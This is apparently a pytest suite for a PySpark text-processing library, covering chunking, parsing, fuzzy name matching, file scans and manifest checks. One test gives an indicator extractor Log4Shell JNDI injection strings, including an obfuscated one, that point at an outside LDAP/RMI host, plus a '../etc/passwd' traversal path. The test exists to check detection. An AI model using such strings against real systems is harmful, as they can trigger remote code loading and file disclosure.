"""Parsers, files and pieces against plain Python, with nulls, empties and broken input."""

from __future__ import annotations

import random

import pytest
from pyspark.sql import functions as F

from lodestone.functions import parsing as p
from lodestone.functions import rules
from lodestone.functions import text as t
from lodestone.operators import graph as g
from lodestone.operators import knowledge as k
from lodestone.operators import manifest, pii, technical
from lodestone.sources import files, yaml
from lodestone.streaming import buffers


def values(spark, column_of, texts):
    rows = spark.createDataFrame(list(enumerate(texts)), "i int, x string")
    return [x.v for x in rows.select("i", column_of(F.col("x")).alias("v")).orderBy("i").collect()]


def test_chunks_hold_every_word(spark):
    r_ = random.Random(2)
    texts = ["", "   ", "one", "a" * 95, "a" * 100, "\n\n".join("w" * r_.randint(1, 60) for _ in range(30)), "x\n\n" + "y" * 250 + "\n\nz"]
    for text in texts:
        for size in (10, 50, 100):
            pieces = k.chunk_text(text, size)
            assert all(0 < len(x) <= size for x in pieces)
            assert "".join(pieces).replace("\n", "") == text.strip().replace("\n", "")
    assert k.chunk_text("a\n\nb\n\nc", 4) == ["a\n\nb", "c"]
    rows = spark.createDataFrame([(1, None), (2, " "), (3, "a\n\nb\n\nc")], "id int, body string")
    assert [(x.id, x.part, x.piece) for x in k.pieces_of(rows, "id", "body", 4).orderBy("part").collect()] == [(3, 0, "a\n\nb"), (3, 1, "c")]


def test_splits_keep_fences_whole():
    text = "intro line\n" * 5 + "```\ncode " + "x" * 40 + "\n```\nafter\n\nend"
    parts = k.safe_split(text, 80)
    assert all(len(x) <= 80 for x in parts) and all(x.count("```") % 2 == 0 for x in parts)
    assert "".join(parts).replace("\n", "") == text.replace("\n", "")
    assert k.safe_split("short", 80) == ["short"] and k.safe_split("z" * 200, 80) == ["z" * 80, "z" * 80, "z" * 40]


def test_item_forms(spark):
    texts = ['x [{"question": "a", "answer": "b"}] y', '{"question": "a", "answer": "b"}\nnot json {', "Q: a\nA: b\nmore\nAL: x|y\nQ: open", "nothing", "", None]
    got = values(spark, k.qna_items, texts)
    assert [[(x.question, x.answer, x.aliases) for x in v or []] for v in got] == [[("a", "b", None)], [("a", "b", None)], [("a", "b\nmore", ["x", "y"])], [], [], []]


def test_packing_and_parts(spark):
    rows = spark.createDataFrame([(1, "x" * 5000), (2, ""), (3, None), (4, "é" * 700)], "id int, body string")
    back = {x.id: (x.p, x.u) for x in rows.select("id", k.packed(F.col("body"), 1000).alias("p")).withColumn("u", k.unpacked(F.col("p"))).collect()}
    assert back[1][0].startswith(k.PACKED) and back[1][1] == "x" * 5000 and back[2] == ("", "") and back[3] == (None, None) and back[4][1] == "é" * 700
    assert values(spark, k.unpacked, [k.PACKED + "!!", k.PACKED + "AAAA"]) == ["{}", "{}"]
    parts = k.chunked(rows, "id", "body", 999)
    assert {x.id: (bytes(x.content).decode(), x.ok) for x in k.reassembled(parts, "id").collect()} == {1: ("x" * 5000, True), 2: ("", True), 4: ("é" * 700, True)}
    broken = parts.withColumn("chunk", F.when((F.col("id") == 1) & (F.col("part") == 2), F.lit(b"?")).otherwise(F.col("chunk")))
    assert {x.id: x.ok for x in k.reassembled(broken, "id").collect()} == {1: False, 2: True, 4: True}


def test_picked_columns(spark):
    rows = spark.createDataFrame([("f", "q1", "a1", "x;y"), ("f", "q2", " ", None), ("g", "q3", "a3", "")], "file string, Question string, ANSWER string, alias string")
    assert {(x.file, x.structured) for x in k.picked(rows, "file").collect()} == {("f", False), ("g", True)}
    assert not k.picked(rows.select("file", "alias"), "file").where("structured").count()


def test_parsers_on_odd_input(spark):
    odd = [None, "", "   ", "[", "```", "| a | b", "{", "\u0000", "😀" * 3, "a" * 3000]
    for f in (p.answer_kind, p.without_markdown, p.without_emoji, p.joined_lines, p.yaml_text, p.final_channel, p.demojibaked, p.table_line, rules.complete, rules.parameters_only, p.question, t.code_blocks):
        assert len(values(spark, f, odd)) == len(odd)
    assert values(spark, lambda x: F.array_join(p.pipe_parts(x), "~"), ['a | "b|c" | [d|e] |', '"open | quote', None]) == ['a~"b|c"~[d|e]', '"open | quote', None]
    assert values(spark, lambda x: t.utf16_slice(x, 1, 3), ["a😀b", "abc", ""]) == ["😀", "bc", ""]
    assert values(spark, p.demojibaked, ["cafÃ©", "café", "Ã", "漢Ã©"]) == ["café", "café", "Ã", "漢Ã©"]


@pytest.mark.parametrize("least", [0.7, 0.8, 0.55, 0.45])
def test_similar_names_lose_nothing(spark, least):
    from difflib import SequenceMatcher

    r_ = random.Random(4)
    names = ["abc", "adbec", "axbxc", "", "red ring", "red rings", "a", "aa", "é", "abababab", "babababa"] + ["".join(r_.choice("abcde") for _ in range(r_.randint(1, 9))) for _ in range(50)]
    long = ["".join(r_.choice("abcdefghijklmnop ") for _ in range(r_.randint(10, 30))) for _ in range(12)]
    names += [*long, *("".join(c for c in x if r_.random() > 0.15) for x in long), *("".join(c + "z" * (r_.random() < 0.3) for c in x) for x in long)]
    names = list(dict.fromkeys(names))
    rows = spark.createDataFrame(list(enumerate(names)), "id long, name string")
    got = {(x.a, x.b) for x in g.similar_names(rows, least).collect()}
    want = {(i, j) for i in range(len(names)) for j in range(i + 1, len(names)) if names[i] and names[j] and SequenceMatcher(None, names[i], names[j]).ratio() >= least}
    assert got == want


def test_similar_names_compare_few(spark):
    r_ = random.Random(5)
    syllables = [a + b for a in "bdfgklmnprst" for b in "aeiou"]
    names = list(dict.fromkeys("".join(r_.choices(syllables, k=r_.randint(4, 8))) for _ in range(1500)))
    rows = spark.createDataFrame([(i, n, len(n)) for i, n in enumerate(names)], "id long, name string, size int")
    assert g.name_candidates(rows, 0.7).count() < len(names) * (len(names) - 1) / 2 * 0.05


def test_similar_names_read_rows_once(spark, tmp_path):
    """The search is on distinct names: the rows that they came from are read once."""
    spark.createDataFrame([(i, ("red ring", "red rings", "bolt")[i % 3]) for i in range(3000)], "id long, name string").repartition(1).write.parquet(f"{tmp_path}/names")
    seen = spark.sparkContext.accumulator(0)

    def counted(batches):
        for b in batches:
            seen.add(len(b))
            yield b

    rows = spark.read.parquet(f"{tmp_path}/names").mapInPandas(counted, "id long, name string").groupBy("name").agg(F.min("id").alias("id")).select("id", "name")
    assert [(x.a, x.b) for x in g.similar_names(rows).collect()] == [(0, 1)]
    assert seen.value == 3000


def test_file_scans(spark, tmp_path):
    (tmp_path / "a").mkdir()
    (tmp_path / "a" / "x.txt").write_bytes(b"ok \xff end")
    (tmp_path / "y.json").write_text('[{"a": 1}, {"a": 2}]')
    (tmp_path / "z.json").write_text("{broken")
    assert [x.path.rsplit("/", 1)[1] for x in files.listing(spark, str(tmp_path)).collect()] == ["x.txt", "y.json", "z.json"]
    assert [x.text for x in files.text_files(spark, str(tmp_path), "*.txt").collect()] == ["ok \ufffd end"]
    items, rejected = files.json_rows(spark, str(tmp_path))
    assert sorted(x.item for x in items.collect()) == ['{"a":1}', '{"a":2}'] and [x.reason for x in rejected.collect()] == ["not JSON"]
    assert values(spark, files.xml_text, ["<a> <b>x</b><c>y &amp; z</c></a>", "plain", "", None]) == ["x\ny & z", "plain", "", None]


def test_stream_folds(spark):
    rows = [("a", 0, "no"), ("a", 1, "w <go"), ("a", 2, "> here"), ("b", 0, None), ("b", 1, "x"), ("b", 2, "x"), ("b", 3, "long enough")]
    chunks = spark.createDataFrame(rows, "guid string, seq int, chunk string")
    assert {x.guid: (x.open, x.readable) for x in buffers.gated(chunks, "<go>").collect()} == {"a": (True, " here"), "b": (False, "")}
    assert sorted((x.guid, x.part, x.piece) for x in buffers.coalesced(chunks).where("guid = 'b'").collect()) == [("b", 0, "xlong enough")]
    marked = chunks.where("guid = 'a'").withColumn("marks", F.create_map(F.lit("<go>"), F.lit("GO")))
    assert "".join(x.piece for x in pii.restored_pieces(marked).orderBy("seq").collect()) == "now GO here"
    steps = spark.createDataFrame([(1, 0, "ok"), (1, 1, "No Result found"), (2, 0, "ok"), (3, 0, None)], "workflow int, ord int, answer string")
    assert {x.workflow: (x.state, x["at"]) for x in buffers.workflow_states(steps, ["no result"]).collect()} == {1: ("requires_alternative", 1), 2: ("completed", 0), 3: ("pending", 0)}


def test_technical_content(spark):
    texts = ["GET /admin/upload.php?x=1 from 10.0.0.7 CVE-2024-12345", "see https://a.example/js/app.js and ../etc/passwd", "no", "", "/a/very/long/path/of/config/files/x.jsp", "x ${jndi:ldap://h.io/a} y", "q ${${lower:j}${::-n}di:ldap://h.io/b}", "j-n-d-i:rmi://h.io/c", "a.io then /a.io", "j" + "." * 5000 + "://"]
    got = values(spark, technical.technical_parts, [*texts, None])
    assert got[0] == "/admin/upload.php?x=1\nGET /admin/upload.php?x=1\nupload.php\nadmin\n?x=1"
    assert got[2:4] == [None, None] and got[-1] is None
    assert got[4].split("\n") == [texts[4], "config", "x.jsp", ".jsp", "/a/very/"]
    assert "${jndi:ldap://h.io/a}" in got[5].split("\n") and "${${lower:j}${::-n}di:ldap://h.io/b" in got[6] and "j-n-d-i:rmi://h.io/c" in got[7].split("\n")
    # The place of a piece is that of the match that was seen first: the name counts where the name stands, not within the path before it.
    assert got[8].split("\n")[0] == "a.io"


def test_log_payloads(spark):
    assert values(spark, rules.log_payload, ["a\nb", "|" * 6, "|" * 5, "x src=1.1.1.1", "CEF:0", "plain words", "", None]) == [True, True, False, True, True, False, False, False]


def test_manifests(spark):
    texts = {
        "good": 'name: my-cart\nversion: "1.0"\nprompts:\n  qna: p/qna.txt\nknowledge:\n  dir: docs\n  breakdown: {a: 1}\nmodel:\n  recommended: m\nplugins:\n- name: x\n  path: x.py',
        "bad": "name: My Cart\nversion: 1.0\nprompts:\n  qna: gone.txt\n  odd: p/qna.txt\nknowledge:\n  breakdown: {a: one}\nmodel:\n  other: m\nplugins:\n- name: x\n  path: gone.py\n- path: x.py", "empty": "a: 1", "wrong": "name: x\nversion: v1\nprompts: none\nknowledge:\n  dir: nowhere\nplugins: x",
    }
    m = spark.createDataFrame(list(texts.items()), "cartridge string, body string").select("cartridge", yaml.yaml_entries(F.encode("body", "UTF-8"))["entries"].alias("entries"))
    files = spark.createDataFrame([(c, f) for c in texts for f in ("p/qna.txt", "docs/a/1.yaml", "x.py")], "cartridge string, file string")
    got = {}
    for r in manifest.problems(m, files).collect():
        got.setdefault(r.cartridge, set()).add((r.check, r.level))
    e, w = "error", "warning"
    assert got == {
        "bad": {("name", e), ("version", e), ("prompts.qna", e), ("prompts.odd", w), ("knowledge.dir", e), ("knowledge.breakdown", w), ("model.recommended", e), ("plugins[0].path", w), ("plugins[1].name", e)},
        "empty": {("name", e), ("version", e), ("prompts", e)}, "wrong": {("name", e), ("version", e), ("prompts", e), ("knowledge.dir", e), ("plugins", e)} - {("version", e)},
    }


def test_texts_are_read_in_small_parts(spark, sf_dir):
    """F5, F14, F16 of round 3: a task of Python holds few texts' results at once, and a filter does not read files twice."""
    import pyarrow as pa

    from lodestone.plans import registry

    class Rows:
        schema = spark.createDataFrame([], "id long, body string").schema

        def select(self, *names):
            return self

        def mapInArrow(self, f, schema):  # noqa: N802
            return f

    batch = pa.RecordBatch.from_pydict({"id": list(range(1000)), "body": ["a", None] * 500})
    parts = list(k.pieces_of(Rows(), "id", "body", 4)(iter([batch])))
    assert max(p.num_rows for p in parts) <= k.TEXTS and sum(p.num_rows for p in parts) == 500
    plan = lambda name: registry.QUERIES[name](spark, sf_dir)._jdf.queryExecution().executedPlan().toString()
    assert plan("yaml_documents").count("ArrowEvalPython") == 1
    assert next(k._inflate(k._deflate(iter([pa.array(["x", None] * 99)])))).to_pylist() == ["x", None] * 99
